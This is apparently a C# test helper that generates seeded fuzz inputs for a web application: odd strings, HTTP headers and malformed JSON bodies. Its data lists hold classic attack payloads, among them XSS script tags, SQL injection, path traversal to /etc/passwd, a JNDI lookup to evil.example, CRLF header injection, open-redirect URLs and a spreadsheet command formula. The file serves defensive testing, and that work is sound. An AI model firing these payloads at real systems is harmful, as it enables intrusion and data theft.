using System.Text;

namespace HydraX.Tests.Hosting;

/// <summary>What nobody in their right mind would send: the same for the same seed, so that what breaks can be sent again.</summary>
public sealed class HostileInput(int seed)
{
    /// <summary>What must never come back as markup.</summary>
    public const string Markup = "<script>alert(1)</script>";

    /// <summary>Other sites.</summary>
    public static readonly string[] Elsewhere = ["https://evil.example/", "//evil.example", @"/\evil.example", "/%09/evil.example", "javascript:alert(1)", "https:evil.example", "\thttps://evil.example", "/..//evil.example", "http://localhost.evil.example"];

    private static readonly string[] Texts =
    [
        "", " ", "'", "\"", Markup, $"\">{Markup}", "../../../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%00", "a\0b", "\u202Egnp.exe", "😀😀", "\uD800", "ﬀ\u0301İ", new('a', 300), new('9', 5_000), "-1", "0", "99999999999999999999",
        "9223372036854775807", "-9223372036854775808", "NaN", "1e309", "0x1F", "1,5", "' OR 1=1 --", "'; DROP TABLE users; --", "{{7*7}}", "${jndi:ldap://evil.example}", "%", "%zz", "%c0%ae", "a%0d%0aX-Injected: 1", "=cmd|' /C calc'!A1",
        "true", "null", "undefined", "[]", "{}", "2026-02-30", "0001-01-01", "9999-12-31T23:59:59Z", .. Elsewhere,
    ];

    private static readonly string[] Headers =
    [
        "User-Agent", "Accept", "Accept-Language", "Accept-Encoding", "Cookie", "Authorization", "X-Api-Key", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "X-Original-URL", "Forwarded", "Origin", "Referer", "If-None-Match",
        "If-Modified-Since", "Range", "Idempotency-Key", "X-Telegram-Bot-Api-Secret-Token", "CF-IPCountry", "X-HTTP-Method-Override", "traceparent", "baggage", "Sec-Fetch-Site", "RequestVerificationToken", "Expect", "Content-Language", "X-Request-Id", "blazor-enhanced-nav",
    ];

    private static readonly string[] Bodies =
    [
        "", "{", "}", "[]", "null", "true", "\"text\"", "1e999", "{}{}", "{\"a\":", "{\"a\":1,\"a\":2}", "{\"a\":\"\\uD800\"}", "\uFEFF{}", "{\"a\":NaN}", "// {}", "<xml/>", "a=b&c=d",
        string.Concat(Enumerable.Repeat("[", 5_000)), string.Concat(Enumerable.Repeat("{\"a\":", 500)), $"{{\"{new string('k', 9_000)}\":1}}",
    ];

    private readonly Random random = new(seed);

    /// <summary>A text.</summary>
    public string Text() => Pick(Texts);

    /// <summary>A header and its value.</summary>
    public (string Name, string Value) Header() => (Pick(Headers), Pick(["Bearer ", "ApiKey ", "Basic ", "", ""]) + Pick([Text(), "hx_live_aaaaaaaa_bbbbbbbbbbbbbbbb", "__Host-HydraX=CfDJ8AAAA; HydraX=CfDJ8AAAA", "*/*;q=x", "bytes=9-1,-0", "W/\"", new string('z', 6_000), "de;q=NaN,,,", "00-zz-zz-01"]));

    /// <summary>A body that is meant to be JSON: garbage, or fields of these names with values of every kind.</summary>
    public string Json(IEnumerable<string> names)
    {
        if (random.Next(3) == 0) return Pick(Bodies);
        var fields = names.Where(_ => random.Next(4) > 0).Select(name => $"{System.Text.Json.JsonSerializer.Serialize(name)}:{Value()}");
        return $"{{{string.Join(',', fields)}}}";
    }

    /// <summary>One of them.</summary>
    public T Pick<T>(IReadOnlyList<T> all) => all[random.Next(all.Count)];

    /// <summary>Whether something of a chance of one in so many is so.</summary>
    public bool OneIn(int many) => random.Next(many) == 0;

    /// <summary>As it stands in an address: sometimes encoded as a browser would, sometimes as it is. Kestrel lets no NUL through to be routed.</summary>
    public string InPath()
    {
        var text = Text().Replace("\0", "", StringComparison.Ordinal).Replace("%00", "%01", StringComparison.Ordinal);
        var escaped = Uri.EscapeDataString(text.Replace("\uD800", "%ED%A0%80", StringComparison.Ordinal));
        var isPlain = text.Length > 0 && text.All(c => c is > ' ' and < '\u007f' and not ('?' or '#' or '\\' or '"' or '<' or '>' or '{' or '}' or '^' or '`' or '|'));
        return isPlain && OneIn(2) ? text : escaped;
    }

    private string Value() => random.Next(6) switch
    {
        0 => Pick(["-1", "0", "1e30", "99999999999999999999", "1.5", "9223372036854775808"]),
        1 => Pick(["true", "null", "[]", "{}", "[[[]]]", "{\"a\":{}}"]),
        _ => System.Text.Json.JsonSerializer.Serialize(Text().Replace("\uD800", "", StringComparison.Ordinal)),
    };
}
